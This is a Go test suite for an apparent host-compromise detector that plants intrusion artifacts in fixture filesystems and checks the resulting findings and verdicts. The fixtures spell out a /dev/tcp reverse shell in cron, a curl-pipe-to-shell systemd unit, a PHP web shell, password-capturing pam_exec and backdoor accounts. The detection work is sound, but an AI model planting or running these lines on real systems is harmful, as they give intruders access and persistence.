package check

import (
	"context"
	"crypto/md5"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nowwhat/nowwhat/internal/base/casedir"
	"github.com/nowwhat/nowwhat/internal/base/finding"
	"github.com/nowwhat/nowwhat/internal/base/fixture"
	"github.com/nowwhat/nowwhat/internal/base/hostfs"
	"github.com/nowwhat/nowwhat/internal/base/snapshot"
	"github.com/nowwhat/nowwhat/internal/probe/capture"
)

func run(t *testing.T, r *fixture.Root, opt Options) *Report {
	t.Helper()
	opt.Root = r.Dir
	rep, err := Run(context.Background(), opt)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// has finds an unexplained finding of a rule about a path (or a user when path is "").
func has(rep *Report, rule, subject string) *finding.Finding {
	for i, f := range rep.Findings {
		if f.Rule == rule && (subject == "" || f.Path == subject || f.User == subject || strings.Contains(f.Title, subject)) {
			return &rep.Findings[i]
		}
	}
	return nil
}

func dump(rep *Report) string {
	var b strings.Builder
	for _, f := range rep.Findings {
		b.WriteString("  " + f.Severity.String() + " " + f.Rule + " " + f.Path + " " + f.Title)
		if f.Explained {
			b.WriteString(" [explained: " + f.Explanation + "]")
		}
		b.WriteString("\n")
	}
	return b.String()
}

// clean is the verdict a clean fixture gets: clean as root, incomplete otherwise.
func clean() finding.Verdict {
	if os.Geteuid() == 0 {
		return finding.Clean
	}
	return finding.Incomplete
}

func TestCleanFixture(t *testing.T) {
	rep := run(t, fixture.Debian(t), Options{})
	if rep.Verdict != clean() {
		t.Fatalf("verdict %s on a clean root:\n%s", rep.Verdict, dump(rep))
	}
	for _, f := range rep.Findings {
		if f.Severity >= finding.Medium && !f.Explained {
			t.Errorf("unexplained finding on a clean root: %s %s", f.Rule, f.Title)
		}
	}
}

func TestRules(t *testing.T) {
	tests := []struct {
		name    string
		apply   func(r *fixture.Root)
		rule    string
		subject string
		minSev  finding.Severity
		strong  bool
		verdict finding.Verdict
	}{
		{"trojaned binary", func(r *fixture.Root) { r.File("/usr/bin/ps", "\x7fELF trojan\n", 0o755) },
			"integrity.modified-binary", "/usr/bin/ps", finding.Critical, true, finding.Compromised},
		{"replaced PAM module", func(r *fixture.Root) {
			r.File("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "\x7fELF backdoor\n", 0o644)
		}, "integrity.modified-binary", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", finding.Critical, true, finding.Compromised},
		{"unowned executable in /usr/bin", func(r *fixture.Root) { r.File("/usr/bin/sysupd", "\x7fELF tool\n", 0o755) },
			"integrity.unowned-executable", "/usr/bin/sysupd", finding.High, false, finding.Suspicious},
		{"ld.so.preload", func(r *fixture.Root) {
			r.File("/usr/lib/x86_64-linux-gnu/libsys.so", "\x7fELF hider\n", 0o644)
			r.File("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsys.so\n", 0o644)
		}, "persistence.ld-preload", "/etc/ld.so.preload", finding.Critical, true, finding.Compromised},
		{"system cron job", func(r *fixture.Root) { r.File("/etc/cron.d/sync", "*/10 * * * * root /usr/local/bin/sync.sh\n", 0o644) },
			"persistence.cron", "/etc/cron.d/sync", finding.Medium, false, finding.Suspicious},
		{"cron job running from /tmp", func(r *fixture.Root) {
			r.File("/var/spool/cron/crontabs/www-data", "@reboot /tmp/.x/run\n", 0o600)
		}, "persistence.cron", "/var/spool/cron/crontabs/www-data", finding.High, false, finding.Suspicious},
		{"reverse shell in cron", func(r *fixture.Root) {
			r.File("/etc/cron.d/net", "* * * * * root bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'\n", 0o644)
		}, "implant.pattern", "/etc/cron.d/net", finding.Critical, true, finding.Compromised},
		{"systemd service", func(r *fixture.Root) {
			r.File("/etc/systemd/system/dbus-update.service", "[Service]\nExecStart=/var/tmp/.d/dbus\n[Install]\nWantedBy=multi-user.target\n", 0o644)
			r.Symlink("/etc/systemd/system/dbus-update.service", "/etc/systemd/system/multi-user.target.wants/dbus-update.service")
		}, "persistence.systemd", "/etc/systemd/system/dbus-update.service", finding.High, false, finding.Suspicious},
		{"per-user systemd unit", func(r *fixture.Root) {
			r.File("/home/alice/.config/systemd/user/agent.service", "[Service]\nExecStart=/home/alice/.local/bin/agent\n[Install]\nWantedBy=default.target\n", 0o644)
			r.Symlink("/home/alice/.config/systemd/user/agent.service", "/home/alice/.config/systemd/user/default.target.wants/agent.service")
		}, "persistence.systemd", "/home/alice/.config/systemd/user/agent.service", finding.Medium, false, finding.Suspicious},
		{"rc.local", func(r *fixture.Root) { r.File("/etc/rc.local", "#!/bin/sh\n/usr/local/bin/helper &\nexit 0\n", 0o755) },
			"persistence.init", "/etc/rc.local", finding.Medium, false, finding.Suspicious},
		{"profile.d script", func(r *fixture.Root) { r.File("/etc/profile.d/z.sh", "alias sudo='sudo -E'\n", 0o644) },
			"persistence.startup-file", "/etc/profile.d/z.sh", finding.Medium, false, finding.Suspicious},
		{"motd script", func(r *fixture.Root) { r.File("/etc/update-motd.d/99-x", "#!/bin/sh\n/usr/local/bin/x\n", 0o755) },
			"persistence.startup-file", "/etc/update-motd.d/99-x", finding.Medium, false, finding.Suspicious},
		{"APT hook", func(r *fixture.Root) {
			r.File("/etc/apt/apt.conf.d/99x", "APT::Update::Pre-Invoke {\"/usr/local/bin/x\";};\n", 0o644)
		}, "persistence.startup-file", "/etc/apt/apt.conf.d/99x", finding.Medium, false, finding.Suspicious},
		{"udev rule", func(r *fixture.Root) {
			r.File("/etc/udev/rules.d/75-x.rules", "ACTION==\"add\", RUN+=\"/usr/local/bin/x\"\n", 0o644)
		}, "persistence.startup-file", "/etc/udev/rules.d/75-x.rules", finding.Medium, false, finding.Suspicious},
		{"pam_exec", func(r *fixture.Root) {
			r.Append("/etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/log\n")
		}, "persistence.pam", "/etc/pam.d/common-auth", finding.Critical, true, finding.Compromised},
		{"pam_exec without the password", func(r *fixture.Root) {
			r.Append("/etc/pam.d/common-auth", "auth optional pam_exec.so quiet /usr/local/bin/log\n")
		}, "persistence.pam", "/etc/pam.d/common-auth", finding.High, false, finding.Suspicious},
		{"foreign PAM module", func(r *fixture.Root) {
			r.File("/usr/lib/x86_64-linux-gnu/security/pam_sys.so", "\x7fELF\n", 0o644)
		}, "persistence.pam", "/usr/lib/x86_64-linux-gnu/security/pam_sys.so", finding.Critical, false, finding.Compromised},
		{"kernel module autoload", func(r *fixture.Root) {
			r.File("/etc/modules-load.d/x.conf", "diamorphine\n", 0o644)
			r.File("/usr/lib/modules/6.1.0-13-amd64/extra/diamorphine.ko", "\x7fELF ko\n", 0o644)
		}, "persistence.kernel-module", "/usr/lib/modules/6.1.0-13-amd64/extra/diamorphine.ko", finding.High, false, finding.Suspicious},
		{"modprobe install hook", func(r *fixture.Root) {
			r.File("/etc/modprobe.d/x.conf", "install usb-storage /bin/sh -c '/tmp/.u/run; /sbin/modprobe --ignore-install usb-storage'\n", 0o644)
		}, "persistence.kernel-module", "/etc/modprobe.d/x.conf", finding.Critical, false, finding.Compromised},
		{"sudoers NOPASSWD grant", func(r *fixture.Root) { r.File("/etc/sudoers.d/svc", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440) },
			"persistence.sudoers", "/etc/sudoers.d/svc", finding.High, false, finding.Suspicious},
		{"key for a service account", func(r *fixture.Root) {
			r.File("/var/www/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBkTgbCgSV7nYh3nQb0mVg1oYtaSbWBv4o0wKqjmXBcW x@y\n", 0o600)
		}, "persistence.ssh-key", "www-data", finding.High, false, finding.Suspicious},
		{"forced command key", func(r *fixture.Root) {
			r.Append("/home/alice/.ssh/authorized_keys", "command=\"/tmp/.s\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBkTgbCgSV7nYh3nQb0mVg1oYtaSbWBv4o0wKqjmXBcW b@c\n")
		}, "persistence.ssh-key", "alice", finding.Medium, false, finding.Suspicious},
		{"keys in an unusual place", func(r *fixture.Root) {
			r.File("/etc/ssh/sshd_config", r.Read("/etc/ssh/sshd_config")+"AuthorizedKeysFile /var/lib/.keys\n", 0o644)
			r.File("/var/lib/.keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBkTgbCgSV7nYh3nQb0mVg1oYtaSbWBv4o0wKqjmXBcW z@z\n", 0o644)
		}, "persistence.sshd-config", "/etc/ssh/sshd_config", finding.High, false, finding.Suspicious},
		{"extra uid 0", func(r *fixture.Root) {
			r.Append("/etc/passwd", "toor:x:0:0::/root:/bin/bash\n")
			r.Append("/etc/shadow", "toor:$6$s$h:19700:0:99999:7:::\n")
		}, "accounts.uid0", "toor", finding.Critical, false, finding.Compromised},
		{"service account with a shell", func(r *fixture.Root) {
			r.File("/etc/passwd", strings.Replace(r.Read("/etc/passwd"), "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin", "www-data:x:33:33:www-data:/var/www:/bin/bash", 1), 0o644)
		}, "accounts.system-login", "www-data", finding.High, false, finding.Suspicious},
		{"empty password", func(r *fixture.Root) {
			r.File("/etc/shadow", strings.Replace(r.Read("/etc/shadow"), "daemon:*:", "daemon::", 1), 0o640)
		}, "accounts.empty-password", "daemon", finding.Critical, false, finding.Compromised},
		{"setuid shell copy", func(r *fixture.Root) {
			r.Package("bash", "5.2.15-2+b2", map[string]string{"/usr/bin/bash": "\x7fELF bash\n"})
			r.File("/var/tmp/.b", "\x7fELF bash\n", 0o4755)
		}, "privilege.setuid", "/var/tmp/.b", finding.Critical, os.Geteuid() == 0, finding.Compromised},
		{"executable in /dev/shm", func(r *fixture.Root) { r.File("/dev/shm/x", "\x7fELF implant\n", 0o755) },
			"implant.tmp-executable", "/dev/shm/x", finding.Critical, false, finding.Compromised},
		{"program in a hidden system folder", func(r *fixture.Root) { r.File("/usr/lib/.x/run", "\x7fELF\n", 0o755) },
			"implant.hidden-executable", "/usr/lib/.x/run", finding.Critical, false, finding.Compromised},
		{"script in a hidden system folder", func(r *fixture.Root) { r.File("/usr/lib/.x/run.sh", "#!/bin/sh\ntrue\n", 0o755) },
			"implant.hidden-executable", "/usr/lib/.x/run.sh", finding.High, false, finding.Suspicious},
		{"download-and-run in a unit", func(r *fixture.Root) {
			r.File("/etc/systemd/system/upd.service", "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://198.51.100.7/i.sh | sh'\n", 0o644)
		}, "implant.pattern", "/etc/systemd/system/upd.service", finding.Critical, false, finding.Compromised},
		{"root key added after setup", func(r *fixture.Root) {
			r.Chtimes("/etc/machine-id", time.Now().Add(-90*24*time.Hour))
			r.File("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBkTgbCgSV7nYh3nQb0mVg1oYtaSbWBv4o0wKqjmXBcW k@x\n", 0o600)
		}, "persistence.ssh-key", "root", finding.Medium, false, finding.Suspicious},
		{"kernel thread name", func(r *fixture.Root) { r.File("/tmp/kthreadd", "\x7fELF\n", 0o755) },
			"implant.masquerade", "/tmp/kthreadd", finding.High, true, finding.Compromised},
		{"miner configuration", func(r *fixture.Root) {
			r.File("/var/tmp/.m/config.json", `{"pools":[{"url":"stratum+tcp://pool.supportxmr.com:3333","user":"4A"}],"donate-level":1}`, 0o644)
		}, "implant.pattern", "/var/tmp/.m/config.json", finding.Critical, true, finding.Compromised},
		{"web shell", func(r *fixture.Root) {
			r.File("/var/www/html/img.php", "<?php if(isset($_POST['c'])){ echo shell_exec($_POST['c']); } ?>", 0o644)
		}, "implant.webshell", "/var/www/html/img.php", finding.Critical, true, finding.Compromised},
		{"history to /dev/null", func(r *fixture.Root) { r.Symlink("/dev/null", "/root/.bash_history") },
			"tamper.history-disabled", "/root/.bash_history", finding.High, false, finding.Suspicious},
		{"HISTFILE disabled in a profile", func(r *fixture.Root) { r.Append("/home/alice/.bashrc", "export HISTFILE=/dev/null\n") },
			"tamper.pattern", "/home/alice/.bashrc", finding.High, false, finding.Suspicious},
		{"auth.log emptied", func(r *fixture.Root) {
			r.File("/var/log/auth.log", "", 0o640)
			// written after creation (btime < mtime): what truncation leaves
			r.Chtimes("/var/log/auth.log", time.Now().Add(5*time.Minute))
		}, "tamper.log-emptied", "/var/log/auth.log", finding.High, false, finding.Suspicious},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := fixture.Debian(t)
			tc.apply(r)
			rep := run(t, r, Options{})
			f := has(rep, tc.rule, tc.subject)
			if f == nil {
				t.Fatalf("no %s finding about %s; got:\n%s", tc.rule, tc.subject, dump(rep))
			}
			if f.Severity < tc.minSev || tc.strong && !f.Strong {
				t.Errorf("finding %+v: want severity >= %s, strong %v", *f, tc.minSev, tc.strong)
			}
			if f.Rule == "" || f.Title == "" || f.Action == "" || f.Why == "" || f.Evidence == nil {
				t.Errorf("finding lacks fields: %+v", *f)
			}
			if os.Geteuid() == 0 && rep.Verdict != tc.verdict {
				t.Errorf("verdict %s, want %s:\n%s", rep.Verdict, tc.verdict, dump(rep))
			}
		})
	}
}

// TestExplanations: a change is explained only by what vouches for it: a trusted session that
// could have made it, a package operation that wrote it, a change note. The same change in a
// session nothing vouches for, or beside an unrelated package operation, stays unexplained; in
// a session that followed password guessing it is the intruder's.
func TestExplanations(t *testing.T) {
	now := time.Now().UTC()
	syslog := func(t time.Time) string { return t.Format("Jan _2 15:04:05") }
	aliceIn := func(r *fixture.Root, pid int, lines ...string) {
		log := syslog(now.Add(-10*time.Minute)) + fmt.Sprintf(" web1 sshd[%d]: Accepted publickey for alice from 192.0.2.10 port 5000 ssh2: ED25519 SHA256:abc\n", pid) +
			syslog(now.Add(-10*time.Minute)) + fmt.Sprintf(" web1 sshd[%d]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)\n", pid)
		for _, l := range lines {
			log += l + "\n"
		}
		r.File("/var/log/auth.log", log, 0o640)
	}
	alice := []casedir.Trust{{ID: "T-1", Address: "192.0.2.10/32", Who: "alice", Operator: "bob"}}
	tests := []struct {
		name      string
		apply     func(r *fixture.Root)
		notes     []casedir.Note
		trust     []casedir.Trust
		rule      string
		subject   string
		explained bool
		want      string
		verdict   finding.Verdict // as root
	}{
		{"a trusted admin adds a cron job with sudo", func(r *fixture.Root) {
			aliceIn(r, 900, syslog(now)+" web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/vi /etc/cron.d/backup")
			r.File("/etc/cron.d/backup", "0 2 * * * root /usr/local/bin/backup\n", 0o644)
		}, nil, alice, "persistence.cron", "/etc/cron.d/backup", true, "alice ran `sudo /usr/bin/vi /etc/cron.d/backup`", finding.Clean},
		{"the same from an address nothing vouches for", func(r *fixture.Root) {
			aliceIn(r, 900, syslog(now)+" web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/vi /etc/cron.d/backup")
			r.File("/etc/cron.d/backup", "0 2 * * * root /usr/local/bin/backup\n", 0o644)
		}, nil, nil, "persistence.cron", "/etc/cron.d/backup", false, "nowwhat trust add --address 192.0.2.10", finding.Suspicious},
		{"a change in a trusted admin's root shell", func(r *fixture.Root) {
			aliceIn(r, 901, syslog(now.Add(-5*time.Minute))+" web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/bash")
			r.File("/etc/profile.d/proxy.sh", "export http_proxy=http://10.0.0.1:3128\n", 0o644)
		}, nil, alice, "persistence.startup-file", "/etc/profile.d/proxy.sh", true, "which had root then", finding.Clean},
		{"a root file changed while a trusted admin without root was logged in", func(r *fixture.Root) {
			aliceIn(r, 902)
			r.File("/etc/profile.d/proxy.sh", "export http_proxy=http://10.0.0.1:3128\n", 0o644)
		}, nil, alice, "persistence.startup-file", "/etc/profile.d/proxy.sh", false, "", finding.Suspicious},
		{"announced in a change note", func(r *fixture.Root) {
			r.File("/etc/systemd/system/metrics.service", "[Service]\nExecStart=/usr/local/bin/node_exporter\n", 0o644)
		}, []casedir.Note{{Time: now, Operator: "bob", Text: "bob installs metrics.service (node_exporter)"}}, nil,
			"persistence.systemd", "/etc/systemd/system/metrics.service", true, "change note by bob", finding.Clean},
		{"a file beside an unrelated package operation is not the package's", func(r *fixture.Root) {
			r.File("/var/log/dpkg.log", now.Local().Format("2006-01-02 15:04:05")+" install nginx:amd64 <none> 1.22.1-9\n", 0o644)
			r.File("/etc/cron.daily/nginx-rotate", "#!/bin/sh\ntrue\n", 0o755)
		}, nil, nil, "persistence.cron", "/etc/cron.daily/nginx-rotate", false, "", finding.Suspicious},
		{"a key added after a brute force is the intruder's", func(r *fixture.Root) {
			var log strings.Builder
			for i := range 60 {
				fmt.Fprintf(&log, "%s web1 sshd[%d]: Failed password for root from 203.0.113.77 port %d ssh2\n", syslog(now.Add(-10*time.Minute+time.Duration(i)*time.Second)), 1000+i, 40000+i)
			}
			fmt.Fprintf(&log, "%s web1 sshd[1100]: Accepted password for root from 203.0.113.77 port 41000 ssh2\n", syslog(now.Add(-8*time.Minute)))
			fmt.Fprintf(&log, "%s web1 sshd[1100]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)\n", syslog(now.Add(-8*time.Minute)))
			r.File("/var/log/auth.log", log.String(), 0o640)
			r.MkdirAll("/root/.ssh", 0o700)
			r.File("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBn8Zkq7bU2x0mC6nV9lP3sR4tY5uW6vX7yZ8aB9cD0e support@helpdesk\n", 0o600)
		}, nil, alice, "persistence.ssh-key", "/root/.ssh/authorized_keys", false, "the intruder's work", finding.Compromised},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := fixture.Debian(t)
			r.File("/etc/timezone", "Etc/UTC\n", 0o644)
			tc.apply(r)
			rep := run(t, r, Options{Notes: tc.notes, Trust: tc.trust})
			f := has(rep, tc.rule, tc.subject)
			if f == nil {
				t.Fatalf("no %s finding about %s:\n%s", tc.rule, tc.subject, dump(rep))
			}
			if f.Explained != tc.explained || !strings.Contains(f.Explanation, tc.want) {
				t.Fatalf("finding %s: explained=%v %q, want %v %q\n%s", f.Title, f.Explained, f.Explanation, tc.explained, tc.want, dump(rep))
			}
			if os.Geteuid() == 0 && rep.Verdict != tc.verdict {
				t.Errorf("verdict %s, want %s:\n%s", rep.Verdict, tc.verdict, dump(rep))
			}
		})
	}
}

// TestStrongNotExplained: a strong indicator stays unexplained even inside an admin's session.
func TestStrongNotExplained(t *testing.T) {
	now := time.Now().UTC()
	r := fixture.Debian(t)
	r.File("/etc/timezone", "Etc/UTC\n", 0o644)
	r.File("/var/log/auth.log", now.Add(-time.Minute).Format("Jan _2 15:04:05")+" web1 sshd[902]: Accepted password for alice from 192.0.2.10 port 5002 ssh2\n"+
		now.Add(-time.Minute).Format("Jan _2 15:04:05")+" web1 sshd[902]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)\n", 0o640)
	r.File("/usr/bin/ps", "\x7fELF trojan\n", 0o755)
	rep := run(t, r, Options{})
	f := has(rep, "integrity.modified-binary", "/usr/bin/ps")
	if f == nil || f.Explained || rep.Verdict != finding.Compromised {
		t.Fatalf("strong finding explained away: %+v, verdict %s", f, rep.Verdict)
	}
}

// TestBaseline: with a baseline, changes since it are named; what was already there is
// explained by the baseline.
func TestBaseline(t *testing.T) {
	r := fixture.Debian(t)
	r.File("/etc/cron.d/old", "0 1 * * * root /usr/local/bin/old\n", 0o644)
	base := filepath.Join(t.TempDir(), "base.snap")
	fsys, err := hostfs.Open(r.Dir)
	if err != nil {
		t.Fatal(err)
	}
	w, err := snapshot.Create(base)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := capture.Take(context.Background(), fsys, w, capture.Options{}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	fsys.Close()
	r.File("/etc/cron.d/new", "*/5 * * * * root /usr/local/bin/new\n", 0o644)
	r.Append("/home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBkTgbCgSV7nYh3nQb0mVg1oYtaSbWBv4o0wKqjmXBcW new@key\n")
	r.File("/usr/local/bin/tool", "#!/bin/sh\necho\n", 0o755)
	// The digest list of coreutils rewritten without an upgrade (to hide a replaced ls).
	r.File("/usr/bin/ls", "\x7fELF trojaned ls\n", 0o755)
	var sums []string
	for _, l := range strings.Split(strings.TrimSpace(r.Read("/var/lib/dpkg/info/coreutils.md5sums")), "\n") {
		if strings.HasSuffix(l, "  usr/bin/ls") {
			l = fmt.Sprintf("%x  usr/bin/ls", md5.Sum([]byte("\x7fELF trojaned ls\n")))
		}
		sums = append(sums, l)
	}
	r.File("/var/lib/dpkg/info/coreutils.md5sums", strings.Join(sums, "\n")+"\n", 0o644)
	past := time.Now().Add(-400 * 24 * time.Hour)
	r.Chtimes("/usr/local/bin/tool", past)
	rep := run(t, r, Options{Baselines: []string{base}, UnsignedOK: true})
	if len(rep.Warnings) == 0 || !strings.Contains(rep.Warnings[0], "UNVERIFIED") {
		t.Errorf("unsigned baseline not flagged: %v", rep.Warnings)
	}
	if f := has(rep, "persistence.cron", "/etc/cron.d/old"); f == nil || !f.Explained || !strings.Contains(f.Explanation, "baseline") {
		t.Errorf("job present in the baseline: %+v\n%s", f, dump(rep))
	}
	if f := has(rep, "persistence.cron", "/etc/cron.d/new"); f == nil || f.Explained || !f.New {
		t.Errorf("new job: %+v\n%s", f, dump(rep))
	}
	if f := has(rep, "persistence.ssh-key", "new@key"); f == nil || !f.New || f.Severity < finding.High {
		t.Errorf("new key: %+v\n%s", f, dump(rep))
	}
	if f := has(rep, "tamper.file-time", "/usr/local/bin/tool"); f == nil || f.Severity < finding.High {
		t.Errorf("back-dated new file: %+v\n%s", f, dump(rep))
	}
	if f := has(rep, "integrity.digest-list-rewritten", "/usr/bin/ls"); f == nil || !f.Strong {
		t.Errorf("rewritten digest list: %+v\n%s", f, dump(rep))
	}
	if rep.Coverage.Baseline == "" {
		t.Error("coverage does not name the baseline")
	}
}

func TestReportRendering(t *testing.T) {
	r := fixture.Debian(t)
	r.File("/usr/bin/ps", "\x7fELF trojan\n", 0o755)
	rep := run(t, r, Options{})
	var text strings.Builder
	if err := rep.WriteText(&text, TextOptions{}); err != nil {
		t.Fatal(err)
	}
	out := text.String()
	for _, want := range []string{"VERDICT:", "COMPROMISED", "CRITICAL", "/usr/bin/ps", "why it matters", "what to do", "NOT COVERED", "NEXT"} {
		if !strings.Contains(out, want) {
			t.Errorf("text report lacks %q:\n%s", want, out)
		}
	}
	if !strings.HasPrefix(out, "VERDICT:") {
		t.Error("the verdict is not the first line")
	}
	if strings.Contains(out, r.Dir) {
		t.Error("the fixture's folder leaks into the report")
	}
	var js strings.Builder
	if err := rep.WriteJSON(&js); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"verdict": "compromised"`, `"rule": "integrity.modified-binary"`, `"severity": "critical"`, `"explained": false`, `"attack": [`, `"coverage": {`} {
		if !strings.Contains(js.String(), want) {
			t.Errorf("JSON lacks %s", want)
		}
	}
}

func TestPackagesOnly(t *testing.T) {
	r := fixture.Debian(t)
	r.File("/usr/bin/ps", "\x7fELF trojan\n", 0o755)
	r.File("/etc/cron.d/evil", "* * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", 0o644)
	r.Remove("/usr/bin/cat")
	rep := run(t, r, Options{PackagesOnly: true})
	if f := has(rep, "integrity.modified-binary", "/usr/bin/ps"); f == nil {
		t.Fatalf("modified binary not found:\n%s", dump(rep))
	}
	for _, f := range rep.Findings {
		if !strings.HasPrefix(f.Rule, "integrity.modified-") {
			t.Errorf("package verification reported %s", f.Rule)
		}
		if f.Path == "/usr/bin/ls" {
			t.Errorf("an intact file was reported: %+v", f)
		}
	}
}
